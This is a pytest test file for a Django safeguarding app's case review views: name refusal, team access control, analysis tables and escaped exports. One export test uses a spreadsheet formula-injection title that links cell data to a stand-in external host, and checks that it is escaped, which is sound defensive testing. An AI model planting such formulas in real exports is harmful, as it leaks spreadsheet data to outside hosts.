"""Case review views: codes at input with names refused, the team restriction, the condensed tables and the
cross-case analysis computed from the tables, and escaped exports."""

from __future__ import annotations

import csv
import io
import json
import zipfile

import pytest

from contextsafe.web.accounts.models import UserRole
from contextsafe.web.casereviews.models import NameList
from contextsafe.web.casework.models import CaseDocument
from tests.web.accounts.factories import organisation, signed_in, user
from tests.web.casereviews.factories import REVIEW_A, REVIEW_B, review

pytestmark = pytest.mark.django_db
SOURCES = ["csc_referrals", "pgi_forms"]


@pytest.fixture
def org():  # noqa: ANN201
    return organisation("Review owner", SOURCES)


@pytest.fixture
def lead(org):  # noqa: ANN001, ANN201
    return user(UserRole.PRACTITIONER, org)


def _coded(client, pk):  # noqa: ANN001, ANN202
    return client.post(f"/casereviews/{pk}/codes/", {
        "yp.0.name": "Tobias Wren", "yp.0.role.suspect": "on", "yp.0.role.leader": "on",
        "yp.1.name": "Lily-May Okoro", "yp.1.role.complainant": "on",
        "ctx.0.kind": "peer_group", "ctx.0.name": "the Eastfield boys", "ctx.0.description": "friendship group of five",
        "ctx.1.kind": "school", "ctx.1.name": "Northgate Academy", "ctx.1.description": "secondary school",
        "other_names": "Sergeant Hollis"})


def test_starting_a_review_makes_the_lead_its_only_team_member(lead):
    response = signed_in(lead).post("/casereviews/new/", {"title": "Review 2026/01"})
    made = CaseDocument.objects.get(kind="case_review")
    assert response.status_code == 302 and response["Location"] == f"/casereviews/{made.pk}/codes/"
    assert list(made.team.all()) == [lead] and made.purpose == "assessment"


def test_codes_are_assigned_at_input_and_names_are_not_stored(lead):
    client = signed_in(lead)
    made = review(lead)
    assert _coded(client, made.pk).status_code == 302
    made.refresh_from_db()
    assert [(yp["code"], yp["roles"]) for yp in made.data["young_people"]] == [
        ("HA01", ["suspect", "leader"]), ("HA02", ["complainant"])]
    assert [(c["code"], c["kind"]) for c in made.data["contexts"]] == [("PG1", "peer_group"), ("SC1", "school")]
    stored = json.dumps([made.data, [v.data for v in made.versions.all()]]).lower()
    for part in ("tobias", "wren", "okoro", "eastfield", "northgate", "hollis"):
        assert part not in stored
    assert len(NameList.objects.get(document=made).digests) >= 6
    page = client.get(f"/casereviews/{made.pk}/codes/").content.decode()
    assert "Tobias" not in page and "Northgate" not in page


@pytest.mark.parametrize("text", ["HA01 was pushed by tobias", "Seen near NORTHGATE ACADEMY gates",
                                  "Lily-May told a teacher", "Sergeant Hollis attended", "Okoro's friends"])
def test_an_answer_holding_a_name_is_refused(lead, text):
    client = signed_in(lead)
    made = review(lead)
    _coded(client, made.pk)
    response = client.post(f"/casereviews/{made.pk}/stage1/", {"incident.escalation": text,
                                                               "overview.year_of_incident": "2025"})
    assert response.status_code == 400
    assert "contains a name from the review&#x27;s name list" in response.content.decode()
    made.refresh_from_db()
    assert "incident" not in made.data


def test_codes_and_ordinary_words_are_accepted(lead):
    client = signed_in(lead)
    made = review(lead)
    _coded(client, made.pk)
    response = client.post(f"/casereviews/{made.pk}/stage1/", {
        "incident.escalation": "HA01 and peers from PG1 followed HA02 from SC1 to NB1; an academy north gate",
        "behaviours.sexual.during": "on", "definitions.hsb": "on"})
    assert response.status_code == 302
    made.refresh_from_db()
    assert made.data["behaviours"]["sexual"] == {"prior": False, "during": True, "following": False}
    assert made.data["definitions"]["hsb"] is True


def test_a_linked_young_persons_name_is_refused_from_the_store(analysis_store, lead):
    client = signed_in(lead)
    made = review(lead)
    client.post(f"/casereviews/{made.pk}/codes/", {"yp.0.person_id": "P-AMARA", "yp.0.role.complainant": "on"})
    made.refresh_from_db()
    assert made.data["young_people"][0]["person_id"] == "P-AMARA"
    assert client.get(f"/casereviews/{made.pk}/environments/HA09/").status_code == 404  # no such code
    client.post(f"/casereviews/{made.pk}/codes/", {"yp.0.person_id": "P-AMARA", "ctx.0.kind": "home"})
    response = client.post(f"/casereviews/{made.pk}/environments/HA01/", {
        "environments.HA01.HM1.criminality.account": "Amara's brother deals from the flat"})
    assert response.status_code == 400


def test_linking_a_young_person_the_user_cannot_see_is_refused(analysis_store, lead):
    made = review(lead)
    response = signed_in(lead).post(f"/casereviews/{made.pk}/codes/", {"yp.0.person_id": "P-CAL"})
    assert response.status_code == 400
    assert "no young person with this identifier is visible to you" in response.content.decode()


def test_only_the_team_opens_a_review(org, lead):
    colleague = user(UserRole.PRACTITIONER, org)
    made = review(lead, REVIEW_A, title="Team only")
    assert signed_in(lead).get(f"/casereviews/{made.pk}/").status_code == 200
    client = signed_in(colleague)
    assert client.get(f"/casereviews/{made.pk}/").status_code == 403
    assert client.get(f"/casereviews/{made.pk}/stage1/").status_code == 403
    assert "Team only" not in client.get("/casereviews/").content.decode()
    assert client.get(f"/casework/{made.pk}/print/").status_code == 403
    signed_in(lead).post(f"/casereviews/{made.pk}/team/", {"team": [str(colleague.pk)]})
    assert set(made.team.all()) == {lead, colleague}
    assert client.get(f"/casereviews/{made.pk}/").status_code == 200
    assert client.get(f"/casereviews/{made.pk}/team/").status_code == 403  # a member is not the lead


def test_another_organisation_joins_only_when_shared_and_on_the_team(lead):
    other = user(UserRole.PANEL_CHAIR, organisation("Partnership"))
    made = review(lead, REVIEW_A)
    client = signed_in(other)
    signed_in(lead).post(f"/casereviews/{made.pk}/team/", {"team": [str(other.pk)]})
    assert other not in made.team.all()  # not yet shared with their organisation
    assert client.get(f"/casereviews/{made.pk}/").status_code == 403
    signed_in(lead).post(f"/casereviews/{made.pk}/team/", {"shared_with": [str(other.organisation_id)],
                                                           "team": [str(other.pk)]})
    assert client.get(f"/casereviews/{made.pk}/").status_code == 200
    assert signed_in(other, "profiling").get(f"/casereviews/{made.pk}/").status_code == 403  # wrong purpose


def test_overview_and_case_summary_are_computed_from_the_tables(lead):
    made = review(lead, REVIEW_A)
    page = signed_in(lead).get(f"/casereviews/{made.pk}/").content.decode()
    assert "Abusive behaviours: abusive_behaviours seen" in page
    flat = " ".join(page.split())
    assert '<dd class="govuk-summary-list__value" id="summary-peer_group-number">1 (PG1)</dd>' in flat
    assert 'id="summary-peer_group-harm">harm in 1 (PG1); safety in 1 (PG1)</dd>' in flat
    assert 'id="summary-home-number">0</dd>' in flat  # HM1 is coded but its table is empty
    assert 'id="response-individuals">2</td>' in flat and 'id="response-peer_group">1</td>' in flat


def test_cross_case_analysis_counts_only_reviews_the_user_opens(org, lead):
    review(lead, REVIEW_A, title="A")
    review(lead, REVIEW_B, title="B")
    review(user(UserRole.PRACTITIONER, org), REVIEW_B, title="Not my team")
    review(user(UserRole.PRACTITIONER), REVIEW_B, title="Other organisation")
    rows = _csv(signed_in(lead).get("/casereviews/analysis.csv"))
    totals = {(r["measure"], r["context"]): int(r["count"]) for r in rows if r["review"] == "All reviews"}
    assert {r["review"] for r in rows} == {"A", "B", "All reviews"}
    assert totals[("contexts featured", "peer_group")] == 2  # PG1 of A and PG1 of B
    assert totals[("contexts featured", "school")] == 1 and totals[("contexts featured", "home")] == 0
    assert totals[("contexts featured", "neighbourhood")] == 1
    assert totals[("risk identified: abusive_behaviours", "peer_group")] == 2
    assert totals[("risk identified: lack_of_capacity", "neighbourhood")] == 1
    assert totals[("contexts with safety", "peer_group")] == 1
    assert totals[("interventions with individuals", "")] == 3
    assert totals[("interventions with contexts", "peer_group")] == 1
    assert totals[("young people: complainant", "")] == 2
    page = signed_in(lead).get("/casereviews/analysis/").content.decode()
    assert "Not my team" not in page and "Other organisation" not in page


def _csv(response) -> list[dict]:  # noqa: ANN001
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_exports_escape_formulas(lead):
    review(lead, REVIEW_A, title='=HYPERLINK("http://x.example/?"&A1,"open")')
    rows = _csv(signed_in(lead).get("/casereviews/analysis.csv"))
    assert {r["review"] for r in rows} == {'\'=HYPERLINK("http://x.example/?"&A1,"open")', "All reviews"}
    response = signed_in(lead).get("/casereviews/analysis.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        strings = book.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in strings


def test_exports_are_refused_to_roles_outside_the_reviewers(lead):
    provider = user(UserRole.INFORMATION_PROVIDER, lead.organisation)
    assert signed_in(provider).get("/casereviews/analysis.csv").status_code == 403
    assert signed_in(provider).get("/casereviews/").status_code == 403


@pytest.mark.parametrize(("row", "message"), [
    ({"log.0.type": "chronology", "log.0.used": "yes"}, "Document 1: give the document&#x27;s title"),
    ({"log.0.title": "CSC chronology HA01", "log.0.used": "yes"}, "Document 1: choose the type of document"),
    ({"log.0.title": "CSC chronology HA01", "log.0.type": "chronology", "log.0.used": "yes",
      "log.0.date": "2026-13-01"}, "Document 1: the date must be a real date"),
    ({"log.0.title": "CSC chronology HA01", "log.0.type": "chronology"}, "Document 1: say whether it was used"),
])
def test_document_log_validation(lead, row, message):
    made = review(lead)
    response = signed_in(lead).post(f"/casereviews/{made.pk}/log/", row)
    assert response.status_code == 400 and message in response.content.decode()


def test_document_log_is_kept(lead):
    made = review(lead)
    response = signed_in(lead).post(f"/casereviews/{made.pk}/log/", {
        "log.0.title": "CSC chronology HA01", "log.0.type": "chronology", "log.0.date": "2026-02-01",
        "log.0.used": "yes", "log.1.title": "Ofsted report SC1", "log.1.type": "ofsted", "log.1.used": "no"})
    assert response.status_code == 302
    made.refresh_from_db()
    assert [(r["title"], r["used"]) for r in made.data["log"]] == [("CSC chronology HA01", "yes"),
                                                                  ("Ofsted report SC1", "no")]
    assert "2 reviewed, 1 used" in signed_in(lead).get(f"/casereviews/{made.pk}/").content.decode()


def test_demo_reviews_are_idempotent_coded_and_give_the_cross_case_analysis_content():
    from contextsafe.web.accounts.demo import create_demo_accounts
    from contextsafe.web.accounts.models import User
    from contextsafe.web.casereviews import demo

    create_demo_accounts()
    demo.seed()
    demo.seed()
    reviews = CaseDocument.objects.filter(kind="case_review")
    assert reviews.count() == 2
    stored = json.dumps([r.data for r in reviews]).lower()
    for _, _, _, _, people, places in demo.REVIEWS:
        for name in people + places:
            assert name.lower() not in stored
    rows = _csv(signed_in(User.objects.get(username="practitioner_social_care")).get("/casereviews/analysis.csv"))
    totals = {(r["measure"], r["context"]): int(r["count"]) for r in rows if r["review"] == "All reviews"}
    assert totals[("contexts featured", "neighbourhood")] == 3  # NB1 of the first, NB1 and NB2 of the second
    assert totals[("interventions with individuals", "")] == 6
    assert signed_in(User.objects.get(username="practitioner_youth_offending")).get(
        f"/casereviews/{reviews[0].pk}/").status_code == 403


def test_analysis_page_shows_where_risk_sat_and_where_the_response_intervened(lead):
    review(lead, REVIEW_A, title="A")
    review(lead, REVIEW_B, title="B")
    flat = " ".join(signed_in(lead).get("/casereviews/analysis/").content.decode().split())
    assert "<strong>3</strong> intervention(s) with individual young people and <strong>1</strong> with contexts" \
        in flat
    assert 'id="harm-peer_group">2</td>' in flat and 'id="harm-school">1</td>' in flat
    assert 'id="interventions-neighbourhood">0</td>' in flat


def test_printed_review_lays_out_the_stages_and_the_summary(lead):
    made = review(lead, {**REVIEW_A, "log": [{"title": "CSC chronology HA02", "type": "chronology", "date": "",
                                              "used": "yes", "notes": ""}]})
    page = " ".join(signed_in(lead).get(f"/casework/{made.pk}/print/").content.decode().split())
    assert "Harmful gender norms</th><td>X</td><td>harmful_gender_norms seen</td>" in page
    assert "CSC chronology HA02" in page and "Interventions with individuals</th><td colspan=\"5\">2</td>" in page


def test_a_title_holding_a_name_is_refused(lead):
    client = signed_in(lead)
    made = review(lead, title="Review 2026/02")
    _coded(client, made.pk)
    response = client.post(f"/casereviews/{made.pk}/codes/", {"title": "Review of Tobias's case"})
    assert response.status_code == 400 and "The title contains a name" in response.content.decode()
    made.refresh_from_db()
    assert made.title == "Review 2026/02"
    assert client.post(f"/casereviews/{made.pk}/codes/", {"title": "Review 2026/02 (HSB)"}).status_code == 302
    made.refresh_from_db()
    assert made.title == "Review 2026/02 (HSB)"


def test_a_review_is_completed_only_once_coded_and_logged(lead):
    client = signed_in(lead)
    made = review(lead)
    client.post(f"/casereviews/{made.pk}/complete/")
    made.refresh_from_db()
    assert made.status == "draft"
    made = review(lead, {**REVIEW_A, "log": [{"title": "Chronology", "type": "chronology", "date": "", "used": "yes",
                                              "notes": ""}]})
    client.post(f"/casereviews/{made.pk}/complete/")
    made.refresh_from_db()
    assert made.status == "submitted" and made.versions.last().note == "review completed"


@pytest.mark.parametrize(("field", "value", "message"), [
    ("overview.year_of_incident", "last year", "Year of incident: give a year as four digits"),
    ("overview.year_of_response", "25", "Year of response: give a year as four digits"),
    ("missing.HA01.episodes", "several", "Missing episodes of HA01: give the number as a whole number"),
])
def test_stage1_checks_years_and_counts(lead, field, value, message):
    made = review(lead, REVIEW_A)
    response = signed_in(lead).post(f"/casereviews/{made.pk}/stage1/", {field: value})
    assert response.status_code == 400 and message in response.content.decode()
